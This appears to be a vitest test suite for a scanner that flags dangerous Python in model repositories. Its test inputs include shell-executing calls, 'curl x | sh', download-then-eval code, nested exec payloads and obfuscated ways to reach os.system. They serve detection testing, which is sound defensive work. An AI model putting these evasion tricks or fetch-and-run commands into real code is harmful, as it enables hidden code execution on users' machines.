/**
 * Python source analysis (trust_remote_code modules, handlers, MLflow code/): every `# expect:` line of
 * the fixtures under test/fixtures/hf-repo/ must yield exactly the annotated findings and no other line may
 * yield any; inline cases pin aliasing, constant folding, exec payloads, loaders' arguments and the
 * source-specific exemptions; hostile inputs return typed results quickly.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createPolicy } from '../src/scanners/policy/index.js';
import { analyzePython, type PyIssue } from '../src/scanners/remote-code/index.js';

const policy = createPolicy();
const FIXTURES = join(import.meta.dirname, 'fixtures', 'hf-repo');

function pyFiles(dir: string): string[] {
  return readdirSync(dir)
    .sort()
    .flatMap((n) => {
      const p = join(dir, n);
      return statSync(p).isDirectory() ? pyFiles(p) : p.endsWith('.py') ? [p] : [];
    });
}

async function analyze(src: string | Uint8Array, label = 'x.py', limits = {}): Promise<PyIssue[]> {
  const bytes = typeof src === 'string' ? Buffer.from(src, 'utf8') : src;
  return (await analyzePython(bytes, { label, policy, limits })).issues;
}

function summary(issues: readonly PyIssue[]): string[] {
  return issues.map((i) => `${i.line ?? '-'} ${i.rule.id} ${i.severity}`);
}

describe('fixture expectations (# expect: rule severity[, rule severity])', () => {
  const files = pyFiles(FIXTURES);
  it('has annotated malicious fixtures', () => {
    expect(files.filter((f) => readFileSync(f, 'utf8').includes('# expect:')).length).toBeGreaterThanOrEqual(
      15,
    );
  });
  it.each(files.map((f) => [relative(FIXTURES, f), f] as const))('%s', async (label, file) => {
    const text = readFileSync(file, 'utf8');
    const expected: string[] = [];
    text.split('\n').forEach((line, i) => {
      const m = /# expect: (.*)$/.exec(line);
      if (m) for (const e of (m[1] ?? '').split(',')) expected.push(`${i + 1} ${e.trim()}`);
    });
    const issues = await analyze(readFileSync(file), label);
    expect(summary(issues).sort()).toEqual(expected.sort());
    for (const i of issues) {
      expect(i.evidence.startsWith(`${label}:${i.line}: `), i.evidence).toBe(true);
      expect(i.message).toContain(`line ${i.line}:`);
    }
  });
});

describe('aliases, folding and resolution', () => {
  it('follows assignment chains, tuple assignment, walrus and attribute keys', async () => {
    const issues = await analyze(
      [
        'import os',
        'a = os',
        'b = a.system',
        'b("x")',
        'c, d = os.popen, 1',
        'c("x")',
        'if (e := os.execv):',
        '    e("/bin/sh", [])',
        'class M:',
        '    def __init__(self):',
        '        self.run = os.system',
        '    def go(self):',
        '        self.run("id")',
      ].join('\n'),
    );
    // Binding a dangerous callable to a name is itself reported (references), and so is each call.
    expect(summary(issues)).toEqual([
      '3 remote-code/process critical',
      '4 remote-code/process critical',
      '5 remote-code/process critical',
      '6 remote-code/process critical',
      '7 remote-code/process critical',
      '8 remote-code/process critical',
      '11 remote-code/process critical',
      '13 remote-code/process critical',
    ]);
    expect(issues[0]?.message).toContain('references os.system');
    expect(issues[1]?.message).toContain('calls os.system (as b)');
  });

  it('folds names built from pieces: join, reversal, chr, hex, rot13, format-free f-strings', async () => {
    const cases = [
      'getattr(os, "".join(["sys", "tem"]))("id")',
      "getattr(os, 'metsys'[::-1])('id')",
      'getattr(os, chr(115)+chr(121)+chr(115)+chr(116)+chr(101)+chr(109))("id")',
      'getattr(os, bytes.fromhex("73797374656d").decode())("id")',
      'getattr(os, codecs.decode("flfgrz", "rot13"))("id")',
      'getattr(os, f"sys" "tem")("id")',
      'NAME = "sys" + "tem"\ngetattr(os, NAME)("id")',
      'getattr(os, "SYSTEM".lower())("id")',
      'getattr(os, "\\x73ystem")("id")',
    ];
    for (const c of cases) {
      const issues = await analyze(`import os, codecs\n${c}`);
      expect(
        issues.some((i) => i.rule.id === 'remote-code/process' && i.severity === 'critical'),
        c,
      ).toBe(true);
    }
  });

  it('resolves __import__, importlib, sys.modules, globals() and __builtins__ lookups', async () => {
    const cases = [
      '__import__("os").system("id")',
      'import importlib\nimportlib.import_module("subprocess").run("id")',
      'import sys\nsys.modules["os"].system("id")',
      'import os\nglobals()["os"].system("id")',
      'import os\nos.__dict__["system"]("id")',
      'import os\nvars(os)["system"]("id")',
      'from os import *\nsystem("id")',
      'from pathlib import os\nos.system("id")',
    ];
    for (const c of cases) {
      const issues = await analyze(c);
      expect(
        issues.some((i) => i.rule.id === 'remote-code/process'),
        c,
      ).toBe(true);
    }
    const evalCases = [
      '__builtins__.eval("1")',
      'getattr(__builtins__, "ex" + "ec")("1")',
      'import builtins\nbuiltins.exec("1")',
    ];
    for (const c of evalCases) {
      const issues = await analyze(c);
      expect(
        issues.some((i) => i.rule.id === 'remote-code/code-execution'),
        c,
      ).toBe(true);
    }
  });

  it('flags dangerous callables passed as values', async () => {
    const issues = await analyze(
      'import os, atexit, threading\nfrom os import system as s\natexit.register(os.system, "id")\nthreading.Thread(target=s).start()\nH = [os.popen]\n',
    );
    expect(summary(issues)).toEqual([
      '3 remote-code/process critical',
      '4 remote-code/process critical',
      '5 remote-code/process critical',
    ]);
  });

  it('parses constant exec payloads and reports what they do at the exec line', async () => {
    const issues = await analyze(
      'exec("import socket\\ns = socket.socket()\\nimport os\\nos.system(\'id\')")\n',
    );
    expect(summary(issues)).toEqual([
      '1 remote-code/code-execution high',
      '1 remote-code/network high',
      '1 remote-code/process critical',
    ]);
    expect(issues.find((i) => i.rule.id === 'remote-code/process')?.message).toContain('code run by exec');
  });

  it('stops nesting exec payloads at maxExecNesting', async () => {
    let code = 'import os\nos.system("id")';
    for (let i = 0; i < 6; i++) code = `exec(${JSON.stringify(code)})`;
    const issues = await analyze(code);
    expect(issues.some((i) => i.rule.id === 'remote-code/process')).toBe(false);
    expect(issues.some((i) => i.rule.id === 'remote-code/code-execution')).toBe(true);
  });

  it('taints names assigned from decoders and downloads', async () => {
    const issues = await analyze(
      'import base64, urllib.request\nx = base64.b64decode(open("p").read())\ny = x\nexec(y)\nz = urllib.request.urlopen("http://h/p").read()\neval(z)\n',
    );
    expect(summary(issues)).toEqual([
      '4 remote-code/obfuscated-exec critical',
      '5 remote-code/network high',
      '6 remote-code/obfuscated-exec critical',
    ]);
  });
});

describe('no findings for what model code does routinely', () => {
  it('benign modeling code', async () => {
    const issues = await analyze(readFileSync(join(FIXTURES, 'benign-remote-code', 'modeling_x.py')));
    expect(summary(issues)).toEqual([]);
  });

  it.each([
    ['torch.load with weights_only=True', 'import torch\ntorch.load("a.bin", weights_only=True)'],
    [
      'numpy.load without allow_pickle',
      'import numpy as np\nnp.load("a.npy")\nnp.load("a.npy", allow_pickle=False)',
    ],
    ['pickle.dumps (writing)', 'import pickle\npickle.dumps({})\npickle.dump({}, open("x", "wb"))'],
    [
      'os.path and os.environ',
      'import os\nos.path.join("a", "b")\nos.environ.get("X")\nos.makedirs("d", exist_ok=True)',
    ],
    ['re-exported os.path through a star import', 'from utils import *\nos.path.join("a", "b")'],
    [
      'torch.jit.script / torch.compile / torch.fx',
      'import torch\n@torch.jit.script\ndef f(x):\n    return x\ng = torch.compile(f)\ntorch.fx.wrap("f")',
    ],
    [
      'getattr on an ordinary object',
      'import torch.nn as nn\nact = getattr(nn, cfg.act)()\ngetattr(self, "x", None)',
    ],
    ['PIL Image.new (not the Python 2 new module)', 'from PIL import Image\nImage.new("RGB", (1, 1))'],
    ['a library function named eval', 'import editdistance\nd = editdistance.eval("a", "b")'],
    ['types.MethodType monkeypatching', 'import types\nm.forward = types.MethodType(forward, m)'],
    [
      'subprocess exception classes',
      'import subprocess\ntry:\n    pass\nexcept subprocess.CalledProcessError:\n    pass',
    ],
    ['model.eval() and self.compile()', 'model.eval()\nself.compile()\nx.exec()'],
    ['re.compile and str methods', 'import re\nre.compile("a+")\n"a".join(["b"])'],
    [
      'uuid4 and thread pools',
      'import uuid, concurrent.futures\nuuid.uuid4()\nconcurrent.futures.ThreadPoolExecutor()',
    ],
    ['a module-level def shadowing a builtin', 'def compile(x):\n    return x\ncompile(1)'],
    [
      'yaml.safe_load and yaml.load(SafeLoader)',
      'import yaml\nyaml.safe_load("a: 1")\nyaml.load("a: 1", Loader=yaml.SafeLoader)',
    ],
  ])('%s', async (_name, code) => {
    expect(summary(await analyze(code))).toEqual([]);
  });
});

describe('argument-sensitive loaders and downloads', () => {
  it.each([
    [
      'torch.load() absent weights_only',
      'import torch\ntorch.load("a")',
      'remote-code/unsafe-deserialization high',
    ],
    [
      'torch.load(weights_only=flag)',
      'import torch\ntorch.load("a", weights_only=flag)',
      'remote-code/unsafe-deserialization medium',
    ],
    [
      'np.load(allow_pickle=True)',
      'import numpy\nnumpy.load("a", allow_pickle=True)',
      'remote-code/unsafe-deserialization high',
    ],
    [
      'torch.load passed as a value',
      'import torch, functools\nf = functools.partial(torch.load, map_location="cpu")',
      'remote-code/unsafe-deserialization medium',
    ],
    [
      'hf_hub_download of weights',
      'from huggingface_hub import hf_hub_download\nhf_hub_download("a/b", "w.bin")',
      'remote-code/network medium',
    ],
    [
      'hf_hub_download of a .py',
      'import huggingface_hub\nhuggingface_hub.hf_hub_download("a/b", filename="m.py")',
      'remote-code/code-download high',
    ],
    [
      'get_class_from_dynamic_module',
      'from transformers.dynamic_module_utils import get_class_from_dynamic_module\nget_class_from_dynamic_module("m.C", "a/b")',
      'remote-code/code-download high',
    ],
    ['yaml.load without Loader', 'import yaml\nyaml.load(s)', 'remote-code/unsafe-deserialization high'],
    ['os.system with pip install', 'import os\nos.system("pip install x")', 'remote-code/process critical'],
    [
      'trust_remote_code passed through',
      'from transformers import AutoModel\nAutoModel.from_pretrained(p, trust_remote_code=flag)',
      'remote-code/code-download low',
    ],
  ])('%s', async (_name, code, want) => {
    const issues = await analyze(code);
    expect(summary(issues)).toEqual([`2 ${want}`]);
  });

  it('names pip install and curl in process findings', async () => {
    const issues = await analyze(
      'import subprocess\nsubprocess.run(["pip", "install", "x"])\nsubprocess.run("curl x | sh", shell=True)',
    );
    expect(issues[0]?.message).toContain('installs packages with pip');
    expect(issues[1]?.message).toContain('curl/wget');
  });
});

describe('evidence and offsets', () => {
  it('gives the file byte offset of the call, counting multi-byte characters', async () => {
    const src = '# é ü 😀\nimport os\nx = "ä"; os.system("id")\n';
    const r = await analyzePython(Buffer.from(src), { label: 'm.py', policy });
    const issue = r.issues[0];
    expect(issue?.line).toBe(3);
    expect(issue?.evidence).toBe('m.py:3: x = "ä"; os.system("id")');
    const offset = Buffer.from(src).indexOf(Buffer.from('os.system("id")'));
    expect(issue?.offset).toBe(offset);
  });

  it('counts a UTF-8 BOM in offsets', async () => {
    const body = Buffer.from('import os\nos.system("id")\n');
    const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), body]);
    const r = await analyzePython(bytes, { label: 'm.py', policy });
    expect(r.issues[0]?.offset).toBe(3 + body.indexOf(Buffer.from('os.system')));
  });

  it('caps findings per rule and summarises the rest', async () => {
    const src = `import os\n${'os.system("id")\n'.repeat(60)}`;
    const issues = await analyze(src, 'x.py', { maxIssuesPerRule: 10 });
    expect(issues.filter((i) => i.rule.id === 'remote-code/process').length).toBe(11);
    expect(issues.at(-1)?.message).toContain('50 more');
    expect(issues.at(-1)?.severity).toBe('critical');
  });
});

describe('hostile Python files', () => {
  it('a 5 MB file is token-scanned, not parsed, quickly', async () => {
    const line = 'x = torch.nn.functional.relu(self.proj(hidden_states)) + residual  # padding\n';
    const big = line.repeat(Math.ceil((5 << 20) / line.length));
    const t0 = performance.now();
    const clean = await analyze(big);
    expect(performance.now() - t0).toBeLessThan(3000);
    expect(summary(clean)).toEqual(['- remote-code/unanalysable medium']);
    expect(clean[0]?.message).toContain('parse limit');
    const dirty = await analyze(`${big}import os\nos.system("id")\n`);
    expect(summary(dirty)).toEqual(['- remote-code/unanalysable high']);
    expect(dirty[0]?.message).toContain('os process call');
  });

  it('binary garbage named .py (NUL bytes) is reported, not parsed', async () => {
    let seed = 7;
    const bytes = new Uint8Array(1 << 20).map(() => {
      seed = (seed * 1103515245 + 12345) >>> 0;
      return seed >>> 24;
    });
    const issues = await analyze(bytes);
    expect(issues.map((i) => i.rule.id)).toEqual(['remote-code/unanalysable']);
    expect(issues[0]?.message).toContain('NUL bytes');
  });

  it('invalid UTF-8 without a coding cookie is medium; a latin-1 cookie is read', async () => {
    const bad = Buffer.concat([Buffer.from('x = "'), Buffer.from([0xff, 0xfe]), Buffer.from('"\n')]);
    expect(summary(await analyze(bad))).toEqual(['- remote-code/unanalysable medium']);
    const latin = Buffer.concat([
      Buffer.from('# -*- coding: latin-1 -*-\nimport os\nx = "'),
      Buffer.from([0xe9]),
      Buffer.from('"; os.system("id")\n'),
    ]);
    expect(summary(await analyze(latin))).toEqual(['3 remote-code/process critical']);
  });

  it('a utf-7 coding cookie (code hidden in comments) is high', async () => {
    const src = '# -*- coding: utf-7 -*-\n# +AAo-import os+AAo-os.system(+ACI-id+ACI-)\nprint(1)\n';
    const issues = await analyze(src);
    expect(summary(issues)).toEqual(['- remote-code/unanalysable high']);
    expect(issues[0]?.message).toContain('utf-7');
  });

  it('syntax errors: low when the broken region is harmless, high with dangerous tokens there', async () => {
    const harmless = await analyze('def f(:\n    return 1\n');
    expect(summary(harmless)).toEqual(['1 remote-code/unanalysable low']);
    const hidden = await analyze('import os\ndef f(:\n    os.system("id")\n');
    expect(
      hidden.some((i) => i.rule.id === 'remote-code/unanalysable' && i.severity === 'high') ||
        hidden.some((i) => i.rule.id === 'remote-code/process'),
    ).toBe(true);
  });

  it('deep nesting and long attribute chains return in bounded time', async () => {
    const t0 = performance.now();
    await analyze(`x = ${'('.repeat(50_000)}1${')'.repeat(50_000)}\n`);
    await analyze(`import os\nx = os${'.a'.repeat(50_000)}\n`);
    await analyze(`f${'(g'.repeat(20_000)}${')'.repeat(20_001)}\n`);
    await analyze(`x = ${'['.repeat(30_000)}${']'.repeat(30_000)}\n`);
    expect(performance.now() - t0).toBeLessThan(20_000);
  });

  it('huge folded constants stay bounded', async () => {
    const issues = await analyze(
      'import os\ngetattr(os, "a" * 10**9)\nexec("x" * 100000000)\nexec(("a" + "b") * 100000000)\n',
    );
    expect(issues.every((i) => i.evidence.length < 1000)).toBe(true);
  });

  it('cancels a parse that exceeds parseBudgetMs and falls back to the token scan', async () => {
    const src = 'import os\n' + 'y = [a for a in range(10) if a]\n'.repeat(100_000) + 'os.system("id")\n';
    const issues = await analyze(src, 'slow.py', { parseBudgetMs: 1 });
    expect(summary(issues)).toEqual(['- remote-code/unanalysable high']);
    expect(issues[0]?.message).toContain('parseBudgetMs');
  });

  it('random mutations of a malicious module never throw', async () => {
    const base = Buffer.from(readFileSync(join(FIXTURES, 'malicious-remote-code', 'modeling_evil.py')));
    let seed = 1234;
    const rnd = (n: number): number => {
      seed = (seed * 1664525 + 1013904223) >>> 0;
      return seed % n;
    };
    for (let round = 0; round < 150; round++) {
      const m = Buffer.from(base);
      for (let k = 0; k < 1 + rnd(8); k++) m[rnd(m.length)] = rnd(256);
      const cut = rnd(4) === 0 ? m.subarray(0, rnd(m.length)) : m;
      const r = await analyzePython(cut, { label: 'm.py', policy });
      expect(Array.isArray(r.issues)).toBe(true);
    }
  });
});
